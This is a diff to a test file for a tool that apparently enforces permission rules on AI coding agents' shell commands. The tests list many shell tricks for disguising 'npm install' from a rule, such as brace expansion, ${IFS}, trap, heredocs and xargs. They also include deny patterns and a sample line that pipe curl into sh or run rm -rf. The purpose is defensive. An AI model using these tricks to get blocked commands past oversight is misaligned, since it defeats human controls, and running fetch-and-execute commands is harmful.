@@ -165,6 +165,7 @@ def test_deny_quotes_the_memory_name_and_its_why(mem: Memdir) -> None:
     assert (
         'words on why: "npm rewrote the lockfile and broke CI."' in hook["permissionDecisionReason"]
     )
+    assert '."."' not in hook["permissionDecisionReason"] + "."  # one stop, not two
 
 
 def test_warn_adds_context_without_a_permission_decision(mem: Memdir) -> None:
@@ -416,6 +417,34 @@ NPM_COMMAND: dict[str, Any] = {"command": "npm", "args": "install|i|run", "actio
         ('echo "npm install" >> notes.txt', False, False),
         ("pnpm install", False, False),
         ("npm test", False, False),
+        ("{npm,x} install", True, True),
+        ("n{p,}m install", True, True),
+        ("npm${IFS}install", True, True),
+        ("npm$IFS'install'", True, True),
+        ("${X:-npm} install", True, True),
+        ("env -S 'npm install'", True, True),
+        ("script -c 'npm install'", True, True),
+        ("trap 'npm install' EXIT", True, True),
+        ("bash <<< 'npm install'", True, True),
+        ("flock /tmp/lock -c 'npm install'", True, True),
+        ("if true; then npm install; fi", True, True),
+        ("! npm install", True, True),
+        ("{ npm install; }", True, True),
+        ("until npm install; do sleep 1; done", True, True),
+        ("npm install>/dev/null", True, True),
+        ("nice -n 5 nohup timeout 10 npm install", True, True),
+        ("stdbuf -oL time npm install", True, True),
+        ("command exec npm install", True, True),
+        ("ls | xargs npm install", True, True),
+        ("sudo -u x doas npm install", True, True),
+        ("find . -exec npm install {} \\;", True, True),
+        ("npm help install", False, False),
+        ("cat > Dockerfile <<'EOF'\nFROM node\nRUN npm install\nEOF", False, False),
+        (
+            "git commit -m \"$(cat <<'EOF'\nUse pnpm\n\nnpm install broke CI\nEOF\n)\"",
+            False,
+            False,
+        ),
     ],
 )
 def test_a_bash_rule_sees_each_command_the_shell_would_run(
@@ -682,3 +711,115 @@ def test_recall_reads_the_users_words_not_the_session_context_gemini_puts_before
     assert own_prompt(gemini, prompt) == "When is the freeze?"
     assert own_prompt(gemini, "When is the freeze?") == "When is the freeze?"
     assert own_prompt(claude, prompt) == prompt
+
+
+# -- rules that can never fire ----------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("rule", "why", "instead"),
+    [
+        (
+            {"tool": "Bash", "match": r"curl .*\| *(ba)?sh", "action": "deny"},
+            "needs `|` between two commands",
+            "command: '(ba)?sh'",
+        ),
+        (
+            {"tool": "Bash", "match": r"cd .* && rm -rf", "action": "deny"},
+            "needs `&&`",
+            "match: 'cd' and match: 'rm -rf'",
+        ),
+        (
+            {"tool": "Bash", "match": r"git add .*; git commit", "action": "ask"},
+            "needs `;`",
+            "one rule per command",
+        ),
+        ({"tool": "bash", "match": "npm", "action": "deny"}, "no tool", "tool: Bash"),
+        ({"tool": "Edit|Wirte", "match": "x", "action": "deny"}, "'Wirte'", "tool: Write"),
+        (
+            {"command": "/usr/bin/npm", "action": "deny"},
+            "without its folder",
+            "command: 'npm'",
+        ),
+        (
+            {"command": "npm install", "action": "deny"},
+            "one word",
+            "command: 'npm', args: 'install'",
+        ),
+        ({"command": "sudo", "action": "deny"}, "looked through", r"match: '\bsudo\b'"),
+        ({"command": "\\|", "action": "deny"}, "shell operator", "name the command"),
+        (
+            {"command": "git", "args": "--force", "action": "deny"},
+            "skips options",
+            "match: '\\bgit\\b.*--force'",
+        ),
+    ],
+)
+def test_a_rule_that_can_never_fire_is_refused_saying_what_to_write(
+    mem: Memdir, rule: dict[str, Any], why: str, instead: str
+) -> None:
+    with pytest.raises(InvalidMemory, match="can never fire") as caught:
+        feedback(mem, "Dead rule", rule)
+    assert why in caught.value.message
+    assert caught.value.hint is not None and instead in caught.value.hint
+    assert mem.list() == []
+
+
+@pytest.mark.parametrize(
+    "rule",
+    [
+        {"tool": "Bash", "match": r"find .* -exec rm .*\;", "action": "deny"},
+        {"tool": "Bash", "match": r"echo x >\| f", "action": "ask"},
+        {"tool": "Write", "match": r"a \| b; c && d", "action": "deny"},  # file text holds any
+        {"tool": "mcp__github__*", "match": "delete", "action": "ask"},
+        {"tool": "run_shell_command|apply_patch", "match": "npm", "action": "ask"},
+        {"command": "bash|sh", "action": "ask"},
+        {"command": "git", "args": "push", "action": "deny"},
+    ],
+)
+def test_rules_that_can_fire_are_kept(mem: Memdir, rule: dict[str, Any]) -> None:
+    feedback(mem, "Live rule", rule)
+    assert len(load_rules(mem.layout).rules) == 1
+
+
+def test_enforce_add_refuses_a_pipe_pattern_and_takes_the_command_rule_it_suggests(
+    mem: Memdir,
+) -> None:
+    mem.write(name="No curl pipe", description="never curl into sh", type="feedback", body=WHY)
+    project = ["--project", str(mem.layout.project_root)]
+    pipe = ["enforce", "add", "no_curl_pipe", "--match", r"curl .*\| *(ba)?sh"]
+    refused = CliRunner().invoke(main, [*pipe, "--action", "deny", *project])
+    assert refused.exit_code == 1
+    assert "can never fire" in refused.stderr and "command: '(ba)?sh'" in refused.stderr
+    assert "enforce" not in mem.get("no_curl_pipe").memory.extra
+    command = ["enforce", "add", "no_curl_pipe", "--command", "(ba)?sh", "--action", "deny"]
+    added = CliRunner().invoke(main, [*command, *project])
+    assert added.exit_code == 0, added.output
+    assert mem.get("no_curl_pipe").memory.extra["enforce"] == [
+        {"tool": "Bash", "command": "(ba)?sh", "action": "deny"}
+    ]
+    assert answer(mem, bash("curl -s https://x.example/install | sh", mem)) is not None
+    again = CliRunner().invoke(main, [*command, *project])
+    assert "already has this rule" in again.stdout
+    both = CliRunner().invoke(main, [*command, "--match", "x", *project])
+    assert both.exit_code == 2
+
+
+def test_enforce_list_marks_a_saved_rule_that_can_never_fire(mem: Memdir, project: Path) -> None:
+    dead = {"tool": "Bash", "match": r"curl .*\| *sh", "action": "deny"}
+    hand_written(mem.layout.memory_dir, "old_rule.md", [dead, NPM])
+    listed = CliRunner().invoke(main, ["enforce", "list", "--project", str(project)])
+    assert listed.exit_code == 0, listed.output
+    lines = listed.stdout.splitlines()
+    marked = [i for i, line in enumerate(lines) if "never fires" in line]
+    assert len(marked) == 1 and "curl" in lines[marked[0] - 1]
+    data = CliRunner().invoke(main, ["enforce", "list", "--project", str(project), "--json"])
+    rows = json.loads(data.stdout)["rules"]
+    assert [row["never_fires"] is None for row in rows] == [False, True]
+
+
+def test_a_command_holding_a_lone_surrogate_is_still_judged(mem: Memdir) -> None:
+    feedback(mem, "Use pnpm", NPM, NPM_COMMAND)
+    payload = json.loads('{"tool_name": "Bash", "tool_input": {"command": "npm install \\ud800"}}')
+    got = answer(mem, {**bash("", mem), **payload})
+    assert got is not None and got["hookSpecificOutput"]["permissionDecision"] == "deny"
